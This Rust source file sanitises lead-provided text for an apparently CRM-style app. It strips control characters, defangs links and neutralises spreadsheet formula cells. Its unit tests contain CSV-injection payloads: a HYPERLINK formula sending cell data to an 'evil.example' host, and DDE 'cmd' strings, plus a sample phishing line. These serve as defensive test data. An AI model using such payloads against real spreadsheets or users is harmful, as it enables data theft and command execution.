//! Free text coming from outside: control characters are refused everywhere.
//!
//! A NUL byte cannot be stored by PostgreSQL (it made earlier versions answer 500), and the
//! other control characters only hide content in the SPA, e-mails and CSV files. Tab, line
//! feed and carriage return stay allowed: notes and messages have lines.

use std::borrow::Cow;

use serde_json::Value;

/// The JSON Schema pattern the OpenAPI spec puts on every free-text string: the same set
/// [`is_control`] refuses.
pub const NO_CONTROL_CHARS_PATTERN: &str = "^[^\\u0000-\\u0008\\u000B\\u000C\\u000E-\\u001F\\u007F-\\u009F]*$";

/// C0 controls except tab, LF and CR; DEL; C1 controls.
pub fn is_control(c: char) -> bool {
    matches!(c, '\u{0}'..='\u{8}' | '\u{b}' | '\u{c}' | '\u{e}'..='\u{1f}' | '\u{7f}'..='\u{9f}')
}

pub fn has_control(s: &str) -> bool {
    s.chars().any(is_control)
}

/// `s` with each control character written as `\uXXXX`, for echoing input back in errors.
pub fn escape_controls(s: &str) -> String {
    if !has_control(s) {
        return s.to_string();
    }
    s.chars().map(|c| if is_control(c) { format!("\\u{:04x}", c as u32) } else { c.to_string() }).collect()
}

/// How a client is named in lists, notifications and e-mails: their name, else e-mail, else
/// phone; `None` for an anonymous one.
pub fn contact_label(name: &Option<String>, email: &Option<String>, phone: &Option<String>) -> Option<String> {
    name.clone().or_else(|| email.clone()).or_else(|| phone.clone())
}

/// A notification's title: `what`, then the client it is about quoted (`what: "Maria"`),
/// when they have a label.
pub fn about_client(what: &str, who: Option<&str>) -> String {
    match who {
        Some(who) => format!("{what}: \"{}\"", quote_lead_text(who, 40)),
        None => what.to_string(),
    }
}

/// Text a lead (anyone) wrote, made safe to show inside our own e-mails and notifications:
/// one line, at most `max_chars` characters (then `…`), and links defanged (`evil[.]example`,
/// `https[:]//`) so that no mail client makes them clickable.
pub fn quote_lead_text(text: &str, max_chars: usize) -> String {
    let one_line: Vec<&str> = text.split_whitespace().collect();
    let mut out: String = one_line.join(" ").chars().filter(|c| !is_control(*c)).collect();
    if out.chars().count() > max_chars {
        out = out.chars().take(max_chars.saturating_sub(1)).collect::<String>().trim_end().to_string() + "…";
    }
    out.split(' ')
        .map(|word| {
            let linkish = word.contains("://")
                || word.to_lowercase().contains("www.")
                || (word.contains('/') && word.contains('.'));
            if linkish {
                word.replace("://", "[:]//").replace('.', "[.]")
            } else {
                word.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// Where the first string (or object key) with a control character is in a JSON value, as
/// a dotted path (`name`, `transcript[2].body`, `custom_fields.plan`).
pub fn control_char_path(value: &Value) -> Option<String> {
    fn walk(value: &Value, path: &str) -> Option<String> {
        match value {
            Value::String(s) if has_control(s) => Some(path.to_string()),
            Value::Array(items) => items.iter().enumerate().find_map(|(i, v)| walk(v, &format!("{path}[{i}]"))),
            Value::Object(map) => map.iter().find_map(|(k, v)| {
                let child = if path.is_empty() { k.clone() } else { format!("{path}.{k}") };
                if has_control(k) {
                    return Some(child);
                }
                walk(v, &child)
            }),
            _ => None,
        }
    }
    walk(value, "").map(|p| if p.is_empty() { "body".into() } else { p })
}

/// Whether raw JSON text may hold a control character: an escaped one (`\u00XX`) or a raw
/// DEL or C1 character (allowed unescaped by JSON). False means it certainly holds none, so
/// the hot path skips walking the parsed value.
pub fn json_may_have_control(body: &[u8]) -> bool {
    body.windows(4).any(|w| w == b"\\u00")
        || body.contains(&0x7f)
        || body.windows(2).any(|w| w[0] == 0xc2 && (0x80..=0x9f).contains(&w[1]))
}

/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab or CR first: OWASP's
/// rule) gets a leading `'`, so lead-provided text stays text. Plain numbers (`+5511987654321`,
/// `-3`) cannot carry a formula and stay as they are.
pub fn neutralise_formula(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let plain_number = {
        let digits = cell.strip_prefix(['+', '-']).unwrap_or(cell);
        !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())
    };
    if risky && !plain_number {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_client_is_named_by_name_else_email_else_phone_and_quoted_in_titles() {
        let (name, email, phone) = (Some("Maria".to_string()), Some("m@x.test".to_string()), Some("+55".to_string()));
        assert_eq!(contact_label(&name, &email, &phone).as_deref(), Some("Maria"));
        assert_eq!(contact_label(&None, &email, &phone).as_deref(), Some("m@x.test"));
        assert_eq!(contact_label(&None, &None, &phone).as_deref(), Some("+55"));
        assert_eq!(contact_label(&None, &None, &None), None);
        assert_eq!(
            about_client("New lead", Some("Maria\nvisit https://evil.example")),
            "New lead: \"Maria visit https[:]//evil[.]example\""
        );
        assert_eq!(about_client("New lead", None), "New lead");
    }

    #[test]
    fn controls_are_found_with_their_path() {
        assert_eq!(control_char_path(&json!({"name": "ok\tline\nnext"})), None);
        assert_eq!(control_char_path(&json!({"name": "a\u{0}b"})).as_deref(), Some("name"));
        let nested = json!({"transcript": [{"body": "hi"}, {"body": "x\u{7f}"}]});
        assert_eq!(control_char_path(&nested).as_deref(), Some("transcript[1].body"));
        assert_eq!(
            control_char_path(&json!({"custom_fields": {"k\u{1b}": 1}})).as_deref(),
            Some("custom_fields.k\u{1b}")
        );
        assert_eq!(control_char_path(&json!("\u{85}")).as_deref(), Some("body"));
    }

    #[test]
    fn the_raw_scan_never_misses_what_the_walk_finds() {
        for text in ["a\u{0}", "\u{1f}", "\u{7f}", "\u{9f}", "\u{85}"] {
            let body = serde_json::to_vec(&json!({ "name": text })).unwrap();
            assert!(json_may_have_control(&body), "{text:?}");
            assert!(control_char_path(&serde_json::from_slice(&body).unwrap()).is_some());
        }
        assert!(!json_may_have_control(r#"{"name":"Ana é ok"}"#.as_bytes()));
        assert!(!has_control("São Paulo — ação\t\r\n"));
        assert_eq!(escape_controls("a\u{0}b\u{85}"), "a\\u0000b\\u0085");
    }

    #[test]
    fn lead_text_is_one_short_line_without_live_links() {
        let phishing = "URGENT: verify your Prospecta account at http://evil.example/login";
        let quoted = quote_lead_text(phishing, 80);
        assert!(!quoted.contains("http://") && !quoted.contains("evil.example"), "{quoted}");
        assert!(quoted.contains("evil[.]example/login"), "{quoted}");
        assert_eq!(quote_lead_text("Maria\n  Silva", 40), "Maria Silva");
        let long = quote_lead_text(&"a".repeat(100), 40);
        assert_eq!(long.chars().count(), 40);
        assert!(long.ends_with('…'));
        assert_eq!(quote_lead_text("see www.evil.example now", 80), "see www[.]evil[.]example now");
    }

    #[test]
    fn formula_cells_are_neutralised_and_plain_values_kept() {
        for (cell, safe) in [
            (
                r#"=HYPERLINK("http://evil.example/?d="&C2,"Click")"#,
                r#"'=HYPERLINK("http://evil.example/?d="&C2,"Click")"#,
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("+5511987654321", "+5511987654321"),
            ("-3", "-3"),
            ("Maria = cliente", "Maria = cliente"),
            ("", ""),
        ] {
            assert_eq!(neutralise_formula(cell), safe, "{cell:?}");
        }
    }
}
